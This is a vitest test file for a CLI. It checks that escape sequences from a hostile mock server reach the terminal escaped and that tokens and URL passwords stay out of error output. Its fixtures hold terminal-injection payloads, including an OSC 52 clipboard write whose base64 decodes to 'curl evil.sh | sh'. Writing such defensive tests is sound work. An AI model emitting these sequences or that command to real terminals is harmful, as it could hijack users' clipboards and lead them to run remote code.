import type { ServerResponse } from "node:http";
import { serveFaults } from "@friendli-ts/test-kit";
import { beforeAll, describe, expect, it } from "vitest";
import { assertBuilt, type CliResult, runCli, runCliAt, sseChunk, TOKEN } from "../support/run-cli.ts";

const serve = serveFaults();
beforeAll(assertBuilt);

// What a compromised server or a proxy can put in any text the CLI prints.
const TITLE = "\x1b]0;owned\x07"; // OSC 0: sets the window title
const CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"; // OSC 52: writes the clipboard
const CLEAR = "\x1b[2J"; // CSI 2J: clears the screen
const C1_CLEAR = "\u009b2J"; // the same with the one-character C1 CSI
const BELL = "\x07";
const REORDER = "\u202e"; // right-to-left override
const HOSTILE = `${TITLE}${CLIPBOARD}${CLEAR}${C1_CLEAR}${BELL}\x7f${REORDER}`;
// How the CLI shows it: each control as a visible `\u00XX`.
const SHOWN = String.raw`\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u001b[2J\u009b2J\u0007\u007f\u202e`;

// Every control character a terminal acts on, and the bidi controls; newline and tab apart.
// biome-ignore lint/suspicious/noControlCharactersInRegex: the characters that must not come through
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function expectNothingRaw(result: CliResult) {
  expect(result.stdout).not.toMatch(RAW_CONTROL);
  expect(result.stderr).not.toMatch(RAW_CONTROL);
  expect(result.stdout).not.toContain(TOKEN);
  expect(result.stderr).not.toContain(TOKEN);
}

const json = (res: ServerResponse, status: number, value: unknown) => {
  res.writeHead(status, { "content-type": "application/json" });
  res.end(JSON.stringify(value));
};

/** A server whose every name, status, cell and chat delta carries escape sequences. */
function hostileApi() {
  return serve((req, res) => {
    const path = new URL(req.url ?? "/", "http://x").pathname;
    if (path === "/dedicated/beta/endpoint") {
      return json(res, 200, {
        data: {
          [`ep-1${HOSTILE}`]: { status: `RUNNING${HOSTILE}`, phase: `phase\nfake-row${HOSTILE}`, updatedAt: "t" },
          "ep-2": { status: "SLEEPING", updatedAt: HOSTILE },
        },
      });
    }
    if (path.endsWith("/status")) return json(res, 200, { status: `FAILED${HOSTILE}`, errorCode: HOSTILE });
    if (path.startsWith("/dedicated/beta/endpoint/")) {
      return json(res, 200, { endpointId: "ep-1", [`name${HOSTILE}`]: `value${HOSTILE}`, status: HOSTILE });
    }
    if (path === "/serverless/v1/chat/completions") {
      res.writeHead(200, { "content-type": "text/event-stream" });
      res.end(
        `${sseChunk({ reasoning_content: `think${HOSTILE}\n` })}` +
          `${sseChunk({ content: `col1\tcol2\nline2${HOSTILE}` })}${sseChunk({ content: " end\n" })}data: [DONE]\n\n`,
      );
      return;
    }
    if (path === "/serverless/v1/detokenize") return json(res, 200, { text: `one\ntwo${HOSTILE}` });
    if (path === "/beta/dataset") {
      return json(res, 200, {
        data: [{ id: `d-1${HOSTILE}`, name: `name${HOSTILE}`, modality: { input_modals: [HOSTILE] }, updatedAt: 1 }],
        nextCursor: null,
      });
    }
    if (path.includes("cost") || path.includes("usage")) {
      return json(res, 200, {
        has_more: false,
        data: [
          {
            start_time: `day${HOSTILE}`,
            results: [{ line_item: HOSTILE, model: HOSTILE, product_type: HOSTILE, user_id: HOSTILE, total: "1" }],
          },
        ],
      });
    }
    json(res, 404, { detail: `no ${path}` });
  });
}

describe("text from the server reaches the terminal escaped", () => {
  it("endpoints list: every cell escaped, one row per endpoint", async () => {
    const server = await hostileApi();
    const result = await runCliAt(server.url, ["endpoints", "list"]);
    expect(result.code).toBe(0);
    expectNothingRaw(result);
    const rows = result.stdout.trimEnd().split("\n");
    // A newline in a value is shown, not obeyed: the header and two endpoints.
    expect(rows).toHaveLength(3);
    expect(rows[1]).toContain(`ep-1${SHOWN}`);
    expect(rows[1]).toContain(`RUNNING${SHOWN}`);
    expect(rows[1]).toContain(String.raw`phase\u000afake-row`);
  });

  it("endpoints status and get", async () => {
    const server = await hostileApi();
    const [status, spec] = await Promise.all([
      runCliAt(server.url, ["endpoints", "status", "ep-1"]),
      runCliAt(server.url, ["endpoints", "get", "ep-1"]),
    ]);
    for (const result of [status, spec]) {
      expect(result.code).toBe(0);
      expectNothingRaw(result);
    }
    expect(status.stdout).toBe(`FAILED${SHOWN} (${SHOWN})\n`);
    expect(spec.stdout).toContain(`name${SHOWN}: value${SHOWN}\n`);
  });

  it("endpoints wait: the status line on stderr", async () => {
    const server = await serve((_req, res, { attempt }) =>
      json(res, 200, attempt === 1 ? { status: "INITIALIZING", phase: `phase${HOSTILE}` } : { status: "RUNNING" }),
    );
    const result = await runCliAt(server.url, ["endpoints", "wait", "ep-1", "--interval", "0.05"]);
    expect(result.code).toBe(0);
    expectNothingRaw(result);
    expect(result.stderr).toContain(`ep-1: INITIALIZING (phase${SHOWN}), waiting for RUNNING\n`);
  });

  it("chat: answer and reasoning escaped, their newlines and tabs kept", async () => {
    const server = await hostileApi();
    const result = await runCliAt(server.url, ["chat", "hi"]);
    expect(result.code).toBe(0);
    expectNothingRaw(result);
    expect(result.stdout).toBe(`col1\tcol2\nline2${SHOWN} end\n`);
    expect(result.stderr).toBe(`think${SHOWN}\n\n`);
  });

  it("chat --json: each line still JSON, with the very text the server sent", async () => {
    const server = await hostileApi();
    const result = await runCliAt(server.url, ["--json", "chat", "hi"]);
    expect(result.code).toBe(0);
    expectNothingRaw(result);
    const chunks = result.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(chunks.map((c) => c.choices[0].delta.content ?? "").join("")).toBe(`col1\tcol2\nline2${HOSTILE} end\n`);
  });

  it("endpoints list --json: the same values once parsed", async () => {
    const server = await hostileApi();
    const result = await runCliAt(server.url, ["--json", "endpoints", "list"]);
    expect(result.code).toBe(0);
    expectNothingRaw(result);
    expect(JSON.parse(result.stdout)[0]).toMatchObject({ endpointId: `ep-1${HOSTILE}`, status: `RUNNING${HOSTILE}` });
  });

  it("detokenize, datasets list, cost and usage", async () => {
    const server = await hostileApi();
    const base = ["--base-url", server.url, "--token", TOKEN];
    const range = ["--from", "2026-01-01", "--to", "2026-01-02"];
    const results = await Promise.all([
      runCli([...base, "detokenize", "1", "2"]),
      runCli([...base, "datasets", "list", "--project", "p-1"]),
      runCli([...base, "cost", ...range, "--by-item"]),
      runCli([...base, "usage", ...range]),
    ]);
    for (const result of results) {
      expect(result.code).toBe(0);
      expectNothingRaw(result);
      expect(result.stdout).toContain(SHOWN);
    }
    expect(results[0]!.stdout).toBe(`one\ntwo${SHOWN}\n`);
  });

  it("cost and usage pages of the wrong shape: InvalidResponseError on one line, exit 1, no TypeError", async () => {
    const range = ["--from", "2026-01-01", "--to", "2026-01-02"];
    for (const data of [null, "abc", {}]) {
      const server = await serve((_req, res) => json(res, 200, { has_more: false, data }));
      for (const command of ["cost", "usage"]) {
        const result = await runCliAt(server.url, [command, ...range]);
        expect(result.code, `${command} ${JSON.stringify(data)}`).toBe(1);
        expect(result.stdout).toBe("");
        expect(result.stderr).toMatch(
          /^error: InvalidResponseError: endpoints\.(cost|usage)\.get: the answer has the wrong shape/,
        );
        expect(result.stderr).not.toMatch(/TypeError/);
      }
    }
  });

  it("an error body: one escaped line on stderr", async () => {
    const server = await serve((_req, res) => json(res, 400, { detail: `bad ${HOSTILE}\nerror: forged line` }));
    const result = await runCliAt(server.url, ["endpoints", "status", "ep-1"]);
    expect(result.code).toBe(1);
    expectNothingRaw(result);
    expect(result.stderr).toMatch(/^error: BadRequestError 400: .* answered 400: bad .*\\u000aerror: forged line\n$/);
    expect(result.stderr).toContain(SHOWN);
  });

  it("an error body too long for the line is cut after the escape-free check", async () => {
    const server = await serve((_req, res) => json(res, 400, { detail: HOSTILE.repeat(200) }));
    const result = await runCliAt(server.url, ["endpoints", "status", "ep-1"]);
    expect(result.code).toBe(1);
    expectNothingRaw(result);
    expect(result.stderr.split("\n")).toHaveLength(2);
  });
});

describe("error lines never hold a piece of the token", () => {
  // A token as long as a real one, so that a cut can leave a long piece of it.
  const token = "flp_4d8a0c2e6b1f9d3a7c5e0b2d4f6a8c1e3b5d7f9";

  it.each([8, 20, 30, token.length - 1])(
    "a 401 whose text is cut %i characters into the token it echoes",
    async (kept) => {
      // The SDK keeps the first 500 characters of a server's message.
      const server = await serve((req, res) => {
        const echoed = String(req.headers.authorization).slice("Bearer ".length);
        json(res, 401, { detail: `${"x".repeat(500 - kept)}${echoed} is not a valid token` });
      });
      const result = await runCli(["--base-url", server.url, "--token", token, "endpoints", "status", "ep-1"]);
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/^error: AuthenticationError 401: /);
      // No run of 8 characters of the token, wherever the cut fell.
      for (let start = 0; start + 8 <= token.length; start++) {
        expect(result.stderr).not.toContain(token.slice(start, start + 8));
      }
      expect(server.requests[0]?.headers.authorization).toBe(`Bearer ${token}`);
    },
  );

  it("a --base-url with a password that does not parse is quoted without it", async () => {
    const result = await runCliAt("http://me:s3cret-pass@exa mple.com", ["endpoints", "list"]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^error: --base-url "http:\/\/\.\.\.@exa mple\.com" is not a URL/);
    expect(result.stderr).not.toContain("s3cret");
    const fromEnv = await runCli(["--token", TOKEN, "endpoints", "list"], {
      env: { FRIENDLI_BASE_URL: "http://me:s3cret-pass@exa mple.com" },
    });
    expect(fromEnv.code).toBe(2);
    expect(fromEnv.stderr).not.toContain("s3cret");
  });
});
